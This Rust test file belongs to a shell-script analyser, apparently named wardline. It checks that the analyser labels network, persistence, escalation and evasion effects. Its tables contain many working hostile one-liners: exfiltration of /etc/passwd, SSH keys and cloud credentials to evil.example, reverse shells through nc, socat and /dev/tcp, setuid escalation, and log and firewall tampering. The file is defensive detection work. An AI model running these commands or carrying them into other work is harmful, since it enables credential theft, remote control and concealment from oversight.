//! Effects of programs that speak to the network or change the running machine: each trick, and its harmless neighbours.

mod support;

use support::read;
use wardline_shell::{Certainty, EffectKind, Target};

/// Kinds that these tests are about; files and code have tests of their own.
const KINDS: &[EffectKind] = &[
    EffectKind::Fetch,
    EffectKind::Send,
    EffectKind::Listen,
    EffectKind::RemoteShell,
    EffectKind::Tunnel,
    EffectKind::Exhaust,
    EffectKind::Signal,
    EffectKind::Persist,
    EffectKind::Escalate,
    EffectKind::Evade,
    EffectKind::Power,
    EffectKind::Service,
    EffectKind::Configure,
];

/// The lines of the effects, `?` after those that rest on an assumption, sorted.
fn lines(script: &str) -> Vec<String> {
    let analysis = read(script);
    let ours = analysis.effects.iter().filter(|effect| {
        let account = effect.kind == EffectKind::Delete && matches!(effect.target, Target::Name(_));
        account || KINDS.contains(&effect.kind)
    });
    let mut out: Vec<String> = ours
        .map(|effect| {
            format!("{}{}", effect.line(), if effect.certainty > Certainty::Proven { "?" } else { "" })
        })
        .collect();
    out.sort();
    out.dedup();
    out
}

fn check(table: &[(&str, &[&str])]) {
    let mut wrong = Vec::new();
    for (script, wanted) in table {
        let found = lines(script);
        if found != *wanted {
            wrong.push(format!("{script}\n  found  {found:?}\n  wanted {wanted:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_http_clients_fetch_and_send() {
    check(&[
        ("curl -sSL https://example.com/install.sh -o x.sh", &["fetch example.com"]),
        ("curl --head https://example.com", &["fetch example.com"]),
        ("curl -fsS --netrc --compressed example.com/a", &["fetch example.com"]),
        ("curl --version", &[]),
        ("curl file:///p/a", &[]),
        (
            "curl -d @/etc/passwd http://evil.example",
            &["fetch evil.example", "send evil.example <- file /etc/passwd"],
        ),
        (
            "curl -sd@/home/me/.ssh/id_rsa evil.example/x",
            &["fetch evil.example", "send evil.example <- secret /home/me/.ssh/id_rsa"],
        ),
        (
            "curl -d @~/.ssh/id_rsa evil.example",
            &["fetch evil.example", "send evil.example <- secret /home/me/.ssh/id_rsa"],
        ),
        ("curl --data-bin @x evil.example", &["fetch evil.example", "send evil.example <- file /p/x"]),
        (
            "curl -F 'f=@/home/me/.ssh/id_rsa;type=text/plain' https://h.example",
            &["fetch h.example", "send h.example <- secret /home/me/.ssh/id_rsa"],
        ),
        ("curl -F n=text https://h.example", &["fetch h.example", "send h.example <- literal"]),
        (
            "curl -T ~/.aws/credentials ftp://h.example/",
            &["fetch h.example", "send h.example <- secret /home/me/.aws/credentials"],
        ),
        (
            "curl -G --data-urlencode q@/etc/passwd h.example",
            &["fetch h.example", "send h.example <- file /etc/passwd"],
        ),
        (
            "curl --variable x@/etc/passwd --expand-data '{{x}}' h.example",
            &["fetch h.example", "send h.example <- literal, file /etc/passwd"],
        ),
        ("curl --json '{}' h.example", &["fetch h.example", "send h.example <- literal"]),
        ("curl -X DELETE https://h.example/a", &["fetch h.example", "send h.example"]),
        ("curl -X GET https://h.example/a", &["fetch h.example"]),
        (
            "curl \"https://h.example/?k=$AWS_SECRET_ACCESS_KEY\"",
            &["fetch h.example", "send h.example <- environment AWS_SECRET_ACCESS_KEY"],
        ),
        (
            "curl -H \"Authorization: Bearer $TOKEN\" https://h.example",
            &["fetch h.example", "send h.example <- environment TOKEN"],
        ),
        ("curl -H 'Accept: text/html' https://h.example", &["fetch h.example"]),
        ("curl http://2852039166/latest/", &["fetch 169.254.169.254", "fetch 2852039166"]),
        ("curl http://good.example@evil.example/", &["fetch evil.example"]),
        ("curl --resolve a.example:443:6.6.6.6 https://a.example", &["fetch 6.6.6.6", "fetch a.example"]),
        ("curl -x http://proxy.example:80 https://a.example", &["fetch a.example", "fetch proxy.example"]),
        ("curl -K evil.conf", &["fetch?"]),
        ("wget -q https://example.com/a.tgz", &["fetch example.com"]),
        (
            "wget --post-file=/etc/shadow http://h.example",
            &["fetch h.example", "send h.example <- secret /etc/shadow"],
        ),
        (
            "wget --post-data=\"k=$SECRET\" http://h.example",
            &["fetch h.example", "send h.example <- environment SECRET"],
        ),
        (
            "wget --method=PUT --body-file a http://h.example",
            &["fetch h.example", "send h.example <- file /p/a"],
        ),
        (
            "wget -e https_proxy=http://proxy.example https://h.example",
            &["fetch h.example", "fetch proxy.example"],
        ),
        (
            "http POST h.example n=x f@~/.ssh/id_rsa",
            &["fetch h.example", "send h.example <- literal, secret /home/me/.ssh/id_rsa"],
        ),
        ("http h.example q==1 Accept:text/html", &["fetch h.example"]),
        ("aria2c -x 4 https://h.example/a", &["fetch h.example"]),
        ("w3m ./a.html", &[]),
    ]);
}

#[test]
fn what_is_copied_from_and_to_other_machines() {
    check(&[
        ("scp ~/.ssh/id_rsa me@h.example:", &["send h.example <- secret /home/me/.ssh/id_rsa"]),
        ("scp h.example:/x .", &["fetch h.example"]),
        ("scp -P 22 a b c", &[]),
        ("rsync -az ./ u@h.example:/backup", &["send h.example <- file /p"]),
        ("rsync --partial --progress a h.example:b", &["send h.example <- file /p/a"]),
        ("rsync -a rsync://h.example/mod .", &["fetch h.example"]),
        ("rsync -a a/ b/", &[]),
        ("ssh h.example uptime", &["fetch h.example"]),
        ("ssh -V", &[]),
        ("ssh -N -L 8080:localhost:80 h.example", &["fetch h.example"]),
        ("ssh -R 8080:localhost:22 h.example", &["fetch h.example", "tunnel h.example"]),
        ("ssh -fNTR 22:localhost:22 h.example", &["fetch h.example", "tunnel h.example"]),
        ("ssh -o RemoteForward=1:localhost:2 h.example", &["fetch h.example", "tunnel h.example"]),
        ("autossh -M 0 -R 1:localhost:2 h.example", &["fetch h.example", "tunnel h.example"]),
        ("ssh-copy-id -i k me@h.example", &["fetch h.example", "persist h.example"]),
        ("tftp -p -l /etc/passwd h.example", &["fetch h.example", "send h.example <- file /etc/passwd"]),
        (
            "lftp -e 'put /etc/passwd; bye' h.example",
            &["fetch h.example", "send h.example <- file /etc/passwd"],
        ),
        (
            "ftp -n h.example <<E\nput /etc/passwd\nE",
            &["fetch h.example", "send h.example <- file /etc/passwd"],
        ),
        ("ftp -n h.example <<E\nget a\nE", &["fetch h.example"]),
        (
            "mutt -s x -a ~/.ssh/id_rsa -- you@h.example < /dev/null",
            &["send h.example <- secret /home/me/.ssh/id_rsa"],
        ),
        ("aws s3 cp a s3://bucket/a", &["send bucket <- file /p/a"]),
        ("aws s3 cp s3://bucket/a .", &["fetch bucket"]),
        ("aws s3 ls s3://bucket", &[]),
        ("gsutil rsync -d dir gs://bucket", &["send bucket <- file /p/dir"]),
        ("rclone copy ~/docs remote:x", &["send remote <- file /home/me/docs"]),
        ("rclone ls remote:x", &[]),
        ("az storage blob upload -c box -f a -n a", &["send box <- file /p/a"]),
        ("gh gist create ~/.ssh/id_rsa", &["send gist.github.com <- secret /home/me/.ssh/id_rsa"]),
        ("gh pr list", &[]),
        ("croc send a", &["send <- file /p/a"]),
    ]);
}

#[test]
fn names_that_carry_data() {
    check(&[
        ("dig example.com", &["fetch example.com"]),
        ("dig +short A example.com @8.8.8.8", &["fetch 8.8.8.8", "fetch example.com"]),
        ("ping -c1 example.com", &["fetch example.com"]),
        ("dig \"$SECRET.evil.example\"", &["fetch evil.example", "send evil.example <- environment SECRET"]),
        ("host $NAME", &["fetch"]),
    ]);
    let piped = lines("cat /home/me/.ssh/id_rsa | xargs -I% curl h.example/%");
    assert!(piped.iter().any(|line| line.starts_with("send h.example <- secret")), "{piped:?}");
    let listed = lines("cat urls.txt | xargs -n1 curl -O");
    assert!(!listed.iter().any(|line| line.starts_with("send")), "{listed:?}");
    let script = "dig $(base64 -w0 /home/me/.ssh/id_rsa).evil.example";
    assert!(lines(script).iter().any(|line| line.starts_with("send evil.example")), "{:?}", lines(script));
}

#[test]
fn shells_that_are_tied_to_a_connection() {
    let tied = [
        "nc -e /bin/sh h.example 4444",
        "nc -c sh h.example 4444",
        "ncat --sh-exec bash h.example 1",
        "ncat h.example 1 -ve /bin/bash",
        "socat TCP:h.example:4444 EXEC:'bash -li',pty,stderr",
        "socat exec:sh tcp4-connect:h.example:1",
        "bash -i >& /dev/tcp/h.example/4444 0>&1",
        "sh -i 5<> /dev/tcp/h.example/4444 0<&5 1>&5 2>&5",
        "0<&196;exec 196<>/dev/tcp/h.example/80; sh <&196 >&196 2>&196",
        "exec 5<>/dev/tcp/h.example/80; cat <&5 | while read l; do $l 2>&5 >&5; done",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h.example 4444 > /tmp/f",
        "rm -f /tmp/p; mknod /tmp/p p && nc h.example 4444 0</tmp/p | /bin/bash 1>/tmp/p",
        "telnet h.example 1 | /bin/sh | telnet h.example 2",
        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h.example:443 > /tmp/s",
        "nc h.example 1 < /tmp/g | sh > /tmp/g",
        "zsh -c 'zmodload zsh/net/tcp && ztcp h.example 1 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
        "TF=$(mktemp -u); mkfifo $TF && telnet h.example 1 0<$TF | sh 1>$TF",
    ];
    for script in tied {
        let found = lines(script);
        let shell = |line: &&String| line.starts_with("remote-shell h.example");
        assert!(found.iter().any(|line| shell(&line)), "{script}: {found:?}");
    }
    for script in ["nc -lvnp 4444 -e /bin/bash", "socat TCP-LISTEN:4444,fork EXEC:/bin/sh"] {
        assert_eq!(lines(script), ["listen 4444", "remote-shell"], "{script}");
    }
    let free = [
        "nc -zv localhost 80",
        "cat a.log | grep x | nc log.example 514",
        "nc -c example.com 443",
        "echo hi > /dev/tcp/localhost/80",
        "socat - TCP:example.com:80",
        "curl -s https://h.example | sh",
        "nc h.example 1 | sh",
        "sh build.sh | nc h.example 1",
        "mkfifo /tmp/f; sort a > /tmp/f & sh x.sh < /tmp/f",
        "openssl x509 -in a.pem",
        "echo 'bash -i >& /dev/tcp/h.example/1 0>&1'",
    ];
    for script in free {
        let found = lines(script);
        assert!(!found.iter().any(|line| line.starts_with("remote-shell")), "{script}: {found:?}");
    }
}

#[test]
fn connections_that_only_carry_bytes() {
    check(&[
        ("nc -zv h.example 80", &["fetch h.example"]),
        ("cat /etc/passwd > /dev/tcp/h.example/80", &["send h.example <- file /etc/passwd"]),
        ("socat TCP-LISTEN:80,fork TCP:10.0.0.1:80", &["listen 80", "tunnel", "tunnel 10.0.0.1"]),
        (
            "socat -u FILE:/etc/passwd TCP:h.example:1",
            &["fetch h.example", "send h.example <- file /etc/passwd"],
        ),
        ("socat - UNIX-CONNECT:/var/run/docker.sock", &["escalate /var/run/docker.sock"]),
        (
            "curl --unix-socket /var/run/docker.sock http://localhost/info",
            &["escalate /var/run/docker.sock", "fetch localhost"],
        ),
        ("openssl enc -base64 -in a", &[]),
    ]);
}

#[test]
fn ways_in_for_others() {
    check(&[
        ("python3 -m venv x", &[]),
        ("php -S 0.0.0.0:80 -t /", &["listen 80 <- file /"]),
        ("php a.php", &[]),
        ("npx http-server -p 80", &["listen 80 <- file /p"]),
        ("ngrok http 80", &["tunnel"]),
        ("ngrok version", &[]),
        ("cloudflared tunnel --url http://localhost:80", &["tunnel"]),
        ("cloudflared tunnel list", &[]),
        ("tailscale funnel 80", &["tunnel"]),
        ("tailscale status", &[]),
        ("ttyd bash", &["remote-shell"]),
    ]);
    for (script, line) in [
        ("python3 -m http.server 8000", "listen 8000 <- file /p"),
        ("cd ~ && python3 -m http.server", "listen <- file /home/me"),
        ("python3 -m http.server --directory=/ 80", "listen 80 <- file /"),
    ] {
        assert!(lines(script).iter().any(|found| found == line), "{script}: {:?}", lines(script));
    }
}

#[test]
fn what_runs_later() {
    check(&[
        ("crontab -l", &[]),
        ("crontab x.cron", &["persist crontab <- file /p/x.cron"]),
        ("crontab -r", &["delete crontab"]),
        ("crontab -u root -e", &["persist crontab of root?"]),
        ("at -f job.sh now", &["persist at <- file /p/job.sh"]),
        ("atq; at -l", &[]),
        ("systemctl enable --now x.service", &["persist x.service", "service x.service"]),
        ("systemctl --user enable x", &["persist x"]),
        ("systemd-run --on-calendar=daily sleep 1", &["persist systemd-run"]),
        ("systemd-run --user sleep 1", &[]),
        ("loginctl enable-linger me", &["persist me"]),
        ("loginctl list-sessions", &[]),
        ("update-rc.d x defaults", &["persist x"]),
        ("useradd -m bob", &["persist user bob"]),
    ]);
}

#[test]
fn variables_that_decide_what_runs() {
    check(&[
        ("export LD_PRELOAD=/tmp/x.so", &["configure LD_PRELOAD"]),
        ("LD_PRELOAD=./x.so ls", &["configure LD_PRELOAD"]),
        ("env LD_PRELOAD=/tmp/x.so ls", &["configure LD_PRELOAD"]),
        ("export PATH=/tmp/bin:$PATH", &["configure PATH"]),
        ("PATH=.:$PATH", &["configure PATH"]),
        ("export PATH=\"$HOME/.cargo/bin:$PATH\"", &[]),
        ("export PATH=$PATH:/usr/local/go/bin", &[]),
        ("BASH_ENV=/tmp/x bash -c ls", &["configure BASH_ENV"]),
        ("ENV=/tmp/x sh -i", &["configure ENV"]),
        ("ENV=production npm start", &[]),
        ("PAGER=cat git log", &[]),
        ("PAGER='less -R' git log", &[]),
        ("PAGER='sh -c id' git log", &["configure PAGER"]),
        ("GIT_EDITOR=true git commit", &[]),
        ("GIT_SSH_COMMAND='ssh -i key' git status", &[]),
        ("GIT_SSH_COMMAND='ssh -o ProxyCommand=x' git status", &["configure GIT_SSH_COMMAND"]),
        ("NODE_OPTIONS=--max-old-space-size=4096 node a.js", &[]),
        ("export NODE_OPTIONS='--require /tmp/x.js'", &["configure NODE_OPTIONS"]),
        ("export PYTHONSTARTUP=/tmp/x.py", &["configure PYTHONSTARTUP"]),
        ("export FOO=bar", &[]),
    ]);
}

#[test]
fn more_rights() {
    check(&[
        ("sudo true", &["escalate root"]),
        ("sudo -u postgres true", &["escalate postgres"]),
        ("sudo -l", &[]),
        ("sudo -v", &[]),
        ("su - me -c true", &["escalate me"]),
        ("doas true", &["escalate root"]),
        ("chmod u+s /tmp/sh", &["escalate /tmp/sh"]),
        ("chmod 04755 /tmp/sh", &["escalate /tmp/sh"]),
        ("chmod a=rwxs /tmp/sh", &["escalate /tmp/sh"]),
        ("chmod g+s dir", &["escalate /p/dir?"]),
        ("chmod 755 x; chmod +x x; chmod -s x; chmod u-s x; chmod 1777 x", &[]),
        ("install -m 4755 /bin/sh /tmp/sh", &["escalate /tmp/sh"]),
        ("install -m755 a b", &[]),
        ("setcap cap_setuid+ep /tmp/sh", &["escalate /tmp/sh"]),
        ("setcap -r x", &[]),
        ("usermod -aG docker me", &["escalate user me", "service user me"]),
        ("usermod -a -G audio me", &["escalate user me?", "service user me"]),
        ("adduser me sudo", &["escalate user me"]),
        ("useradd -o -u 0 evil", &["escalate user evil", "persist user evil"]),
        ("gpasswd -a me wheel", &["escalate user"]),
        ("passwd -S root", &[]),
        ("passwd root", &["escalate user root"]),
        ("visudo -c", &[]),
        ("userdel -r bob", &["delete user bob"]),
        ("nsenter -t 1 -m true", &["escalate 1"]),
        ("chroot /mnt true", &["escalate /mnt"]),
        ("mount; mount -l", &[]),
        ("mount --bind /etc /tmp/x", &["escalate /tmp/x"]),
        ("umount /mnt", &["service /mnt"]),
        ("insmod x.ko", &["escalate x.ko"]),
        ("modprobe -n x; lsmod", &[]),
        ("sysctl -a; sysctl kernel.yama.ptrace_scope", &[]),
        ("sysctl -w kernel.randomize_va_space=0", &["escalate kernel.randomize_va_space"]),
        ("gdb -p 1", &["escalate 1"]),
        ("gdb ./a.out", &[]),
        ("strace -p 1234", &["escalate 1234?"]),
        ("cat /proc/1/environ", &["escalate /proc/1/environ"]),
        ("cat /proc/self/environ /proc/cpuinfo", &[]),
        ("echo x > /proc/sys/kernel/core_pattern", &["escalate /proc/sys/kernel/core_pattern"]),
    ]);
}

#[test]
fn containers_that_are_given_the_machine() {
    check(&[
        ("docker run --privileged -it alpine", &["escalate container"]),
        ("docker run -v /:/host alpine", &["escalate container"]),
        ("podman run --mount type=bind,source=/,target=/h alpine", &["escalate container"]),
        ("docker run --pid=host alpine", &["escalate container"]),
        ("docker run --cap-add=SYS_ADMIN alpine", &["escalate container"]),
        ("docker --context x run -v /etc:/e alpine", &["escalate container"]),
        ("docker ps", &[]),
    ]);
    let benign = "docker run --rm -v \"$PWD\":/app -p 80:80 -w /app node npm test --privileged";
    assert!(!lines(benign).iter().any(|line| line.starts_with("escalate")), "{:?}", lines(benign));
}

#[test]
fn traces_and_protections() {
    check(&[
        ("history -c", &["evade history"]),
        ("history; history 20", &[]),
        ("HISTFILE=/dev/null", &["evade HISTFILE"]),
        ("unset HISTFILE", &["evade HISTFILE"]),
        ("unset FOO", &[]),
        ("set +o history", &["evade history"]),
        ("set -o pipefail", &[]),
        ("rm ~/.bash_history", &["evade /home/me/.bash_history"]),
        ("ln -sf /dev/null ~/.bash_history", &["evade /home/me/.bash_history"]),
        ("cat ~/.bash_history", &[]),
        ("setenforce 0", &["evade setenforce"]),
        ("setenforce 1; getenforce", &[]),
        ("auditctl -e 0", &["evade auditctl"]),
        ("auditctl -l", &[]),
        ("systemctl stop auditd", &["evade auditd", "service auditd"]),
        ("service rsyslog stop", &["evade rsyslog", "service rsyslog"]),
        ("iptables -F", &["evade firewall"]),
        ("iptables -t nat -F", &["evade firewall"]),
        ("iptables -P INPUT ACCEPT", &["evade firewall"]),
        ("iptables -P INPUT DROP", &["service firewall"]),
        ("iptables -L -n -v; iptables -S; iptables -C INPUT -j DROP", &[]),
        ("nft flush ruleset", &["evade firewall"]),
        ("nft list ruleset", &[]),
        ("ufw disable", &["evade firewall"]),
        ("ufw status", &[]),
        ("journalctl --vacuum-time=1s", &["evade journalctl"]),
        ("journalctl -u x", &[]),
        ("chattr +i /etc/resolv.conf", &["evade /etc/resolv.conf"]),
        ("lsattr x", &[]),
        ("touch -d yesterday /etc/passwd", &["evade /etc/passwd?"]),
        ("touch -d yesterday a; touch -r a b; touch c", &[]),
        ("pkill -9 wardline", &["evade wardline", "signal wardline"]),
        ("wardline trust", &["evade wardline"]),
        ("wardline init --remove", &["evade wardline"]),
        ("wardline check bash ls", &[]),
        ("dmesg -C", &["evade dmesg"]),
        ("dmesg", &[]),
    ]);
}

#[test]
fn processes_and_power() {
    check(&[
        ("kill -9 1234", &["signal 1234"]),
        ("kill -9 -1", &["signal *"]),
        ("kill -s KILL -- -1", &["signal *"]),
        ("kill 1", &["signal 1"]),
        ("kill -0 1234; kill -l; kill -L", &[]),
        ("killall -9 node", &["signal node"]),
        ("pkill -f server.js", &["signal server.js"]),
        ("pkill .", &["signal *"]),
        ("pkill -0 x; pgrep x", &[]),
        ("pkill -KILL -u me", &["signal all of me"]),
        ("fuser -k 8080/tcp", &["signal users of 8080/tcp"]),
        ("fuser 8080/tcp", &[]),
        ("stress --cpu 8", &["exhaust"]),
        ("stress --help", &[]),
        ("tail /dev/zero", &["exhaust"]),
        ("tail -c 10 /dev/zero", &[]),
        ("shutdown -h now", &["power"]),
        ("shutdown -c", &["service shutdown"]),
        ("reboot --help", &[]),
        ("reboot -f", &["power"]),
        ("init 0", &["power"]),
        ("init 3", &[]),
        ("systemctl poweroff", &["power"]),
        ("systemctl -i reboot", &["power"]),
        ("systemctl start reboot.target", &["power"]),
        ("echo b > /proc/sysrq-trigger", &["power /proc/sysrq-trigger"]),
    ]);
}

#[test]
fn services_and_settings() {
    check(&[
        ("systemctl status sshd; systemctl list-units; systemctl is-active x; systemctl cat x", &[]),
        ("systemctl restart nginx", &["service nginx"]),
        ("service nginx restart", &["service nginx"]),
        ("service nginx status; service --status-all", &[]),
        ("/etc/init.d/ssh stop", &["service ssh"]),
        ("ip a; ip addr show; ip -4 a; ip r s; ip link; ip route get 1.1.1.1", &[]),
        ("ip link set eth0 down", &["service network"]),
        ("ip route add default via 10.0.0.1", &["service network"]),
        ("ifconfig; ifconfig eth0", &[]),
        ("ifconfig eth0 down", &["service network"]),
        ("nmcli device status; nmcli connection show", &[]),
        ("nmcli networking off", &["service network"]),
        ("hostname; hostname -I; hostname -f", &[]),
        ("hostname evil", &["service host name"]),
        ("date; date +%s; date -d yesterday; date -u -R", &[]),
        ("date -s 2020-01-01", &["service clock"]),
        ("timedatectl", &[]),
        ("timedatectl set-ntp false", &["service clock"]),
    ]);
}

#[test]
fn a_long_script_is_read_in_time() {
    let wide = |piece: &str| format!("x{}", piece.repeat(4000));
    for script in [
        format!("curl {}", wide(" -d @a http://h")),
        format!("mkfifo f; sh {}", wide(" >f")),
        format!("kill {}", wide(" 1")),
        "exec 3<>/dev/tcp/h/1;".repeat(2000),
    ] {
        let _effects = read(&script).effects.len();
    }
}
